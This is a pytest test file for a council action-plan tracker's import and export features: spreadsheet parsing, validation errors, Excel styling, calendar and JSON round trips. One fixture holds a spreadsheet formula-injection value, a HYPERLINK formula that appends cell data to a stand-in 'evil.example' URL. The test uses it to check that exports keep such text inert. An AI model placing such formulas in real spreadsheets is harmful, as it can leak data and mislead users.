"""Import from council spreadsheets; export to Excel, CSV, calendars and JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import pytest
from icalendar import Calendar
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from actiontrack.commands import cli
from tests.conftest import CLI


def council_workbook(path, rows=None):
    """Written the way councils lay out a plan: two merged title rows, a blank row, the
    header, section rows per theme, blank rows between, a notes column nobody maps."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Sufficiency Plan"
    ws.append(["Sufficiency Action Plan 2021-2024"])
    ws.merge_cells("A1:I1")
    ws.append(["Corporate Parenting Board: highlight report, July 2022"])
    ws.merge_cells("A2:I2")
    ws.append([])
    ws.append(["Ref", "Action", "Lead Officer", "Target Date", "Revised Date", "RAG", "Progress Update",
               "Success Criteria", "Notes"])
    for row in rows if rows is not None else [
        ["Theme 1: Strengthening Commissioning for Children and Young People"],
        ["1.1", "Weekly reporting on residential placement activity", "Specialist Commissioning Manager",
         datetime(2022, 6, 30), None, "Complete", "Now in the scorecard", None, "see annex"],
        ["1.2", "Full refresh of the Commissioning Action Plan",
         "Specialist Commissioning & Procurement Senior Manager", "November 2022", None, "Green",
         "Scoping started", "Refreshed plan approved by the Board", None],
        [],
        ["Theme 2: Increasing Placements Close to Home"],
        ["2.1", "Placement planning meetings", "Head of Resources and Placements", "30/09/2022", "Q4 2022/23",
         "Amber", None, None, None],
        ["2.2", "Market position statement", "Head of Commissioning", "Ongoing", None, "G", None, None, None],
    ]:
        ws.append(row)
    notes = wb.create_sheet("Notes")
    notes.append(["Version history"])
    notes.append(["v1 agreed by the Board"])
    wb.save(path)
    return path


@pytest.fixture
def store(run):
    run.ok("init")
    return run


def actions(run, **kw):
    return {r["ref"]: r for r in run.json("action", "list", **kw)}


def test_council_xlsx_imports(store, tmp_path):
    path = council_workbook(tmp_path / "plan.xlsx")
    out = store.ok("import", str(path), "--plan", "SUFF")
    assert "Imported 4 row(s): 4 new, 0 updated, 0 unchanged." in out
    assert "row 11 says 'Ongoing'; kept with no due date" in out
    assert "Ignored columns: Sufficiency Plan: Notes." in out
    assert "Skipped sheets with no action header: Notes." in out
    got = actions(store)
    assert set(got) == {"SUFF-1.1", "SUFF-1.2", "SUFF-2.1", "SUFF-2.2"}
    assert (got["SUFF-1.1"]["status"], got["SUFF-1.1"]["completed_on"]) == ("complete", "2022-06-30")
    assert (got["SUFF-1.2"]["due"], got["SUFF-1.2"]["rag"], got["SUFF-1.2"]["theme_title"]) == (
        "2022-11-30", "green", "Strengthening Commissioning for Children and Young People")
    assert (got["SUFF-2.1"]["baseline_due"], got["SUFF-2.1"]["due"], got["SUFF-2.1"]["reschedules"]) == (
        "2022-09-30", "2023-03-31", 1)
    assert (got["SUFF-2.2"]["due"], got["SUFF-2.2"]["rag"]) == (None, "green")
    shown = store.json("action", "show", "SUFF-2.1")
    assert shown["history"][1]["event"] == "reschedule" and shown["history"][1]["note"] == "imported"
    assert store.json("action", "show", "SUFF-1.2")["success"] == "Refreshed plan approved by the Board"
    assert store.json("plan", "list")[0]["title"] == "Sufficiency Action Plan 2021-2024"


def test_reimport_updates_the_same_actions(store, tmp_path):
    path = council_workbook(tmp_path / "plan.xlsx")
    store.ok("import", str(path), "--plan", "SUFF")
    assert "0 new, 0 updated, 4 unchanged" in store.ok("import", str(path), "--plan", "SUFF")
    council_workbook(path, [
        ["Theme 2: Increasing Placements Close to Home"],
        ["2.1", "Placement planning meetings", "Head of Placements", "30/09/2022", "30/06/2023", "Red",
         "Capital bid deferred", None, None],
    ])
    result = store.json("import", str(path), "--plan", "SUFF")
    assert result["counts"] == {"create": 0, "update": 1, "unchanged": 0}
    assert result["rows"][0]["changes"] == "owner, due, rag, commentary"
    row = actions(store)["SUFF-2.1"]
    assert (row["owner"], row["due"], row["reschedules"], row["rag"]) == ("Head of Placements", "2023-06-30", 2, "red")
    assert len(actions(store)) == 4


def test_excel_csv_with_bom_and_crlf_and_other_headers(store, tmp_path):
    path = tmp_path / "plan.csv"
    text = ("Priority,Reference,Action Description,Responsible Officer,Timescale,Status,Commentary,Outcome\r\n"
            "Prevention and Edge of Care,P1,Edge of care panel reviews,Head of Early Help,30/06/2022,Complete,Panel "
            "meets fortnightly,\r\n"
            ",,,,,,,\r\n"
            "Permanency Planning,P2,\"Permanence plan, agreed by second review\",Head of Corporate Parenting,"
            "Q4 2022/23,In progress,\"Tracking,\r\nmonthly\",Every child has a plan\r\n")
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    store.ok("import", str(path), "--plan", "perm", "--plan-title", "Permanency Action Plan")
    got = actions(store)
    assert [(r["ref"], r["theme_title"], r["status"]) for r in got.values()] == [
        ("PERM-1.1", "Prevention and Edge of Care", "complete"),
        ("PERM-2.1", "Permanency Planning", "in-progress")]
    assert got["PERM-2.1"]["title"] == "Permanence plan, agreed by second review"
    assert got["PERM-2.1"]["due"] == "2023-03-31"
    assert store.json("action", "show", "PERM-2.1")["history"][-1]["note"] == "Tracking,\nmonthly"
    assert store.json("plan", "list")[0]["title"] == "Permanency Action Plan"


def test_windows_1252_csv(store, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_bytes("Action,Owner,Due,Financial Implications\r\nRecruitment campaign,Fostering Manager,"
                     "31/10/2022,£40k from reserves\r\n".encode("cp1252"))
    store.ok("import", str(path), "--plan", "SUFF")
    assert store.json("action", "show", "SUFF-1.1")["finance"] == "£40k from reserves"


def test_bad_rows_are_all_listed_and_nothing_is_written(store, tmp_path):
    path = council_workbook(tmp_path / "plan.xlsx", [
        ["1.1", "Fine row", "Manager", "30/11/2022", None, "Green", None, None, None],
        ["1.2", "Impossible date", "Manager", "31/02/2022", None, "Green", None, None, None],
        ["1.3", "No owner", None, "30/11/2022", None, "Green", None, None, None],
        ["1.4", "Odd RAG", "Manager", "30/11/2022", None, "Purple", None, None, None],
        ["1.1", "Same ref again", "Manager", "30/11/2022", None, "Green", None, None, None],
    ])
    before = store.bytes()
    result = store("import", str(path), "--plan", "SUFF")
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert lines[0] == f"Error: 4 bad rows in {path}; nothing was imported:"
    assert lines[1:] == [
        "  sheet 'Sufficiency Plan', row 6, column 'Target Date', value '31/02/2022': '31/02/2022' is not a real "
        "date (dates are day-first: 30/11/2022, 30 Nov 2022, 2022-11-30, November 2022, Q3 2022/23, 2022/23, "
        "today, +2w, +10d, +3m)",
        "  sheet 'Sufficiency Plan', row 7, column 'Lead Officer', value '': the owner is missing",
        "  sheet 'Sufficiency Plan', row 8, column 'RAG', value 'Purple': not a RAG (Red, Amber, Green) or a "
        "status (Not started, In progress, On hold, Awaiting sign-off, Complete, Dropped)",
        "  sheet 'Sufficiency Plan', row 9, column 'Ref', value '1.1': the same ref as sheet 'Sufficiency Plan', "
        "row 5",
    ]
    assert store.bytes() == before


def test_dry_run_writes_nothing(store, tmp_path):
    path = council_workbook(tmp_path / "plan.xlsx")
    before = store.bytes()
    out = store.ok("import", str(path), "--plan", "SUFF", "--dry-run")
    assert "Would import 4 row(s): 4 new" in out and "Dry run: nothing was written." in out
    assert "SUFF-2.1" in out
    assert store.bytes() == before


def test_map_overrides_headers(store, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("Action,Person,When\nAudit,Principal Social Worker,31/01/2018\n", encoding="utf-8")
    store.refused("import", str(path), "--plan", "OFSTED18", says="owner is missing", details=True)
    store.ok("import", str(path), "--plan", "OFSTED18", "--map", "Person=owner")
    assert actions(store)["OFSTED18-1.1"]["owner"] == "Principal Social Worker"
    store.refused("import", str(path), "--plan", "X", "--map", "Person=boss", says="'boss' is not a field")


@pytest.mark.parametrize("name,content,says", [
    ("nothing.csv", "Colour,Size\nred,big\n", "found no action rows"),
    ("plan.ods", "Action,Owner\n", "is not a .csv, .tsv, .txt, .xlsx or .json file (save other spreadsheets as .xlsx)"),
    ("broken.xlsx", "not a zip", "is not a readable .xlsx workbook"),
    ("missing.csv", None, "no file"),
    ("noplan.csv", "Action,Owner,Due\nAudit,Manager,31/01/2018\n", "no plan for this row; give --plan KEY"),
])
def test_unusable_files(store, tmp_path, name, content, says):
    path = tmp_path / name
    if content is not None:
        path.write_text(content, encoding="utf-8")
    store.refused("import", str(path), says=says, details=True)


# -- export ------------------------------------------------------------------------------


def test_xlsx_export_reads_back(demo, tmp_path):
    out = tmp_path / "plans.xlsx"
    assert demo.ok("export", "--format", "xlsx", "--output", str(out)) == f"Wrote {out}\n"
    book = load_workbook(out)
    assert book.sheetnames == ["PERM", "SUFF", "Resolutions"]
    ws = book["SUFF"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == ws.dimensions
    header = [c.value for c in ws[1]]
    assert header[:6] == ["Ref", "Theme", "Action", "Lead Officer", "Status", "RAG"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    refresh = rows["SUFF-1.2"]
    col = {h: i for i, h in enumerate(header)}
    assert refresh[col["Target Date"]].value == datetime(2022, 11, 30)
    assert refresh[col["Target Date"]].number_format == "DD/MM/YYYY"
    assert refresh[col["RAG"]].value == "Green"
    assert refresh[col["RAG"]].fill.start_color.rgb.endswith("00703C")
    assert rows["SUFF-2.1"][col["Dates say"]].value == "Red"
    assert len(rows) == 10


def test_xlsx_export_gives_each_cell_the_look_of_its_column_and_value(demo, tmp_path):
    """Each look is worked out once and copied (render/xlsx._Styles): every cell must still get
    its own column's and value's look, and a cell with none the plain one."""
    out = tmp_path / "plans.xlsx"
    demo.ok("export", "--format", "xlsx", "--output", str(out))
    fills = {"Red": "B00020", "Amber": "FFBF47", "Green": "00703C", "Blue": "1D70B8"}
    seen = set()
    for ws in load_workbook(out):
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=2):
            for name, cell in zip(header, row):
                dated = name in ("Target Date", "Revised Date", "Date Completed", "Meeting") and cell.value is not None
                assert (cell.number_format == "DD/MM/YYYY") == dated, (ws.title, name, cell.value)
                coloured = name in ("RAG", "Dates say") and cell.value in fills
                assert (cell.fill.fill_type == "solid") == coloured, (ws.title, name, cell.value)
                if coloured:
                    assert cell.fill.start_color.rgb.endswith(fills[cell.value]) and cell.font.b
                    white = cell.value != "Amber"
                    assert cell.font.color.rgb.endswith("FFFFFF" if white else "000000")
                    seen.add(cell.value)
                else:
                    assert not cell.font.b
                wraps = name in ("Action", "Resolution", "Success Criteria", "Financial Implications",
                                 "Progress Update", "Theme", "Lead Officer", "Owner", "Committee",
                                 "Linked actions")
                assert bool(cell.alignment.wrap_text) == wraps, (ws.title, name)
    assert seen == {"Red", "Amber", "Green", "Blue"}


def test_xlsx_export_columns_show_every_name_whole(demo, tmp_path):
    """A theme, officer or committee is never hidden behind the next cell: its column is as
    wide as its longest name, or wraps it past the widest free-text column."""
    out = tmp_path / "plans.xlsx"
    demo.ok("export", "--format", "xlsx", "--output", str(out))
    checked = 0
    for ws in load_workbook(out):
        header = [c.value for c in ws[1]]
        for index, name in enumerate(header, start=1):
            width = ws.column_dimensions[get_column_letter(index)].width
            cells = [row[index - 1] for row in ws.iter_rows(min_row=2)]
            for cell in cells:
                if isinstance(cell.value, str) and len(cell.value) > width - 2:
                    assert cell.alignment.wrap_text, (ws.title, name, cell.value, width)
                    assert width == 45, (ws.title, name, width)
                    checked += 1
            if name in ("Theme", "Lead Officer", "Owner", "Committee", "Status", "Linked actions"):
                longest = max(len(str(c.value or "")) for c in cells)
                assert width == min(45, max(12, len(name) + 2, longest + 2)), (ws.title, name, width)
    assert checked  # the demo has officers and themes longer than 45 characters


def test_xlsx_export_imports_back_unchanged(demo, tmp_path):
    out = tmp_path / "plans.xlsx"
    demo.ok("export", "--format", "xlsx", "--output", str(out))
    before = demo.json("action", "list", as_of="01/12/2022")
    result = demo.json("import", str(out), as_of="01/12/2022")
    assert result["counts"]["create"] == 0 and result["counts"]["unchanged"] == 16
    assert demo.json("action", "list", as_of="01/12/2022") == before


def test_an_edited_target_date_beside_a_revised_date_is_said_not_taken(demo, tmp_path):
    """From a new-user trial: SUFF-2.1's Target Date edited in an export came back as
    "unchanged" without a word, and the clerk believed the edit was taken.  A baseline
    stays as first agreed (a new date goes in Revised Date); the sheet's other one is said."""
    from datetime import datetime

    out = tmp_path / "plans.xlsx"
    demo.ok("export", "--format", "xlsx", "--output", str(out))
    book = load_workbook(out)
    ws = book["SUFF"]
    head = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[head.index("Ref")].value == "SUFF-2.1")
    assert row[head.index("Revised Date")].value == datetime(2022, 9, 30)  # not rescheduled
    row[head.index("Target Date")].value = datetime(2022, 12, 31)
    book.save(out)
    before = demo.json("action", "show", "SUFF-2.1", as_of="01/12/2022")
    result = demo.json("import", str(out), as_of="01/12/2022")
    assert result["counts"]["unchanged"] == 16
    assert result["baselines_differ"] == [
        f"SUFF row {row[0].row}: SUFF-2.1 31 Dec 2022 (its baseline is 30 Sep 2022)"]
    said = " ".join(demo.ok("import", str(out), "--dry-run", as_of="01/12/2022").split())
    assert ("Target dates that are not the baseline, not changed (a baseline stays as first agreed; a new date goes "
            f"in Revised Date): sheet 'SUFF', row {row[0].row}: SUFF-2.1 31 Dec 2022 (its baseline is 30 Sep 2022).") \
        in said
    assert demo.json("action", "show", "SUFF-2.1", as_of="01/12/2022") == before


FORMULA_TEXT = {
    "title": '=HYPERLINK("http://evil.example/?"&B2,"Click for the update")',
    "owner": "=Head of Service",
    "success": "+10% more placements close to home",
    "finance": "-£40k (a saving)",
    "note": "@Fostering Manager: =SUM(A1:A9) is the count",
}


def test_xlsx_export_keeps_formula_like_text_as_text(sufficiency, tmp_path):
    """Text starting "=" went out as a live formula (<f>), and the export could not come back."""
    t = FORMULA_TEXT
    sufficiency.ok("action", "add", "SUFF.2", t["title"], "--owner", t["owner"], "--due", "31/01/2023",
                   "--success", t["success"], "--finance", t["finance"])
    sufficiency.ok("action", "update", "SUFF-2.1", "--note", t["note"])
    out = tmp_path / "plans.xlsx"
    sufficiency.ok("export", "--format", "xlsx", "--output", str(out))
    import zipfile

    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    ws = load_workbook(out)["SUFF"]
    action = ws.cell(3, [c.value for c in ws[1]].index("Action") + 1)
    assert (action.value, action.data_type) == (t["title"], "s")
    before = sufficiency.json("action", "show", "SUFF-2.1")
    result = sufficiency.json("import", str(out))
    assert result["counts"] == {"create": 0, "update": 0, "unchanged": 2}
    after = sufficiency.json("action", "show", "SUFF-2.1")
    assert after == before
    assert (after["title"], after["owner"], after["success"], after["finance"]) == (
        t["title"], t["owner"], t["success"], t["finance"])


def test_ics_export(demo, tmp_path):
    out = tmp_path / "deadlines.ics"
    demo.ok("export", "--format", "ics", "--output", str(out), as_of="01/12/2022")
    cal = Calendar.from_ical(out.read_bytes())
    events = {str(e["UID"]): e for e in cal.walk("VEVENT")}
    open_actions = [r for r in demo.json("action", "list", "--open", as_of="01/12/2022") if r["due"]]
    open_resolutions = [r for r in demo.json("resolution", "list", "--open", as_of="01/12/2022") if r["due"]]
    milestones = [m for r in open_actions for m in r["milestones"] if not m["done_on"]]
    assert len(events) == len(open_actions) + len(open_resolutions) + len(milestones)
    refresh = events["SUFF-1.2@demo.actiontrack"]
    assert refresh.decoded("DTSTART") == date(2022, 11, 30)  # all day: a date, not a time
    assert refresh.decoded("DTEND") == date(2022, 12, 1)
    assert str(refresh["SUMMARY"]) == "SUFF-1.2 due: Full refresh of the Commissioning Action Plan"
    assert int(events["SUFF-2.2@demo.actiontrack"]["SEQUENCE"]) == 2
    # The description is read by people: British dates, and times moved in words.
    assert "Baseline due: 31 Oct 2022; moved 2 times." in str(events["SUFF-2.2@demo.actiontrack"]["DESCRIPTION"])
    assert "Baseline due: 30 Nov 2022; never moved." in str(refresh["DESCRIPTION"])
    assert "moved once." in str(events["SUFF-1.3@demo.actiontrack"]["DESCRIPTION"])
    assert "SUFF-1.3.m1@demo.actiontrack" in events
    assert "SUFF-1.1@demo.actiontrack" not in events  # complete
    again = Calendar.from_ical(demo.ok("export", "--format", "ics", as_of="01/12/2022").encode())
    assert {str(e["UID"]) for e in again.walk("VEVENT")} == set(events)  # stable: Outlook updates, not duplicates


def test_json_round_trip_is_lossless(demo, tmp_path, run):
    first = tmp_path / "export.json"
    demo.ok("export", "--format", "json", "--output", str(first))
    payload = json.loads(first.read_text())
    assert (payload["format"], payload["version"]) == ("actiontrack-export", 1)
    fresh = tmp_path / "fresh.json"
    runner_args = ["--store", str(fresh)]
    assert run.runner.invoke(cli, [*runner_args, "init"]).exit_code == 0
    imported = run.runner.invoke(cli, [*runner_args, "import", str(first)])
    assert imported.exit_code == 0, imported.output
    second = tmp_path / "again.json"
    assert run.runner.invoke(cli, [*runner_args, "export", "--format", "json", "--output", str(second)]).exit_code == 0
    assert second.read_bytes() == first.read_bytes()
    again = run.runner.invoke(cli, [*runner_args, "import", str(first)])
    assert again.exit_code == 2 and "into an empty store" in again.stderr


@pytest.mark.parametrize("target", ["fresh.json", "fresh.db"])
def test_json_export_restores_into_either_backend(demo, tmp_path, target):
    """A backup taken from one backend restores into the other (a SQLite store's items are
    its own rows: swapping the mapping for the export's crashed with 'no attribute pending')."""
    from tests.conftest import CLI

    backup = tmp_path / "backup.json"
    demo.ok("export", "--format", "json", "--output", str(backup))
    fresh = CLI(tmp_path / target)
    fresh.ok("init")
    assert "16 action(s), 11 resolution(s)" in fresh.ok("import", str(backup))
    again = tmp_path / "again.json"
    fresh.ok("export", "--format", "json", "--output", str(again))
    assert again.read_bytes() == backup.read_bytes()
    assert fresh.json("action", "show", "SUFF-2.2") == demo.json("action", "show", "SUFF-2.2")
    assert fresh.json("resolution", "list") == demo.json("resolution", "list")


def test_csv_export_is_excel_friendly(demo):
    raw = demo.runner.invoke(cli, ["--store", demo.where(), "--as-of", "01/12/2022", "export", "--format", "csv",
                                   "--plan", "SUFF"]).stdout_bytes
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["ref"] for r in rows][:2] == ["SUFF-1.1", "SUFF-1.2"] and len(rows) == 10
    assert rows[1]["commentary"] == "Drafting underway with the Commissioning team"


def test_export_needs_an_output_for_xlsx_and_no_plan_for_json(demo):
    demo.refused("export", "--format", "xlsx", says="needs --output FILE")
    demo.refused("export", "--format", "json", "--plan", "SUFF", says="leave out --plan")
    demo.refused("export", "--format", "pdf", says="'pdf' is not one of")


def test_progress_bar_only_for_big_imports_on_a_terminal(monkeypatch):
    from actiontrack.commands import transfer

    with transfer._progress(10) as small:
        assert small is None
    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
    with transfer._progress(transfer.PROGRESS_FROM) as big:
        assert callable(big)
        big(1, transfer.PROGRESS_FROM)


def test_an_exported_workbook_makes_its_plans_in_an_empty_store_with_their_titles(demo, tmp_path):
    """Found by a new-user trial: the demo exported to .xlsx and imported into an empty
    store made 'Imported plan SUFF' and 'Imported plan PERM'.  Each sheet is printed under
    its plan's title (the page header), and a new plan now takes it from there."""
    out = tmp_path / "plans.xlsx"
    demo.ok("export", "--format", "xlsx", "--output", str(out))
    empty = CLI(tmp_path / "empty.json")
    empty.ok("init")
    empty.ok("import", str(out), as_of="01/12/2022")
    titles = {p["key"]: p["title"] for p in empty.json("plan", "list")}
    assert titles == {p["key"]: p["title"] for p in demo.json("plan", "list")}
    assert titles["SUFF"] == "Sufficiency Action Plan"
    again = CLI(tmp_path / "titled.json")
    again.ok("init")
    again.ok("import", str(out), "--plan-title", "Given on the command line", "--plan", "SUFF", as_of="01/12/2022")
    assert again.json("plan", "list")[0]["title"] == "Given on the command line"


@pytest.mark.parametrize("command", [("export", "--format", "json"), ("export", "--format", "csv"),
                                     ("export", "--format", "xlsx"), ("report", "--format", "html")])
def test_output_over_the_store_or_its_backups_is_refused(demo, command):
    """From a new-user trial: `export --format json --output actiontrack-demo.json` wrote over
    the store itself (exit 0); every command after it exited 3, and the change made since
    the newest backup was lost (on SQLite, everything)."""
    if demo.server is not None:
        pytest.skip("a PostgreSQL store is no file")
    store = str(demo.store)
    demo.refused(*command, "--output", store, says="is the store itself")
    demo.refused(*command, "--output", store + ".1", says="a file the store keeps beside it")
    assert demo.json("action", "show", "SUFF-1.1")["ref"] == "SUFF-1.1"
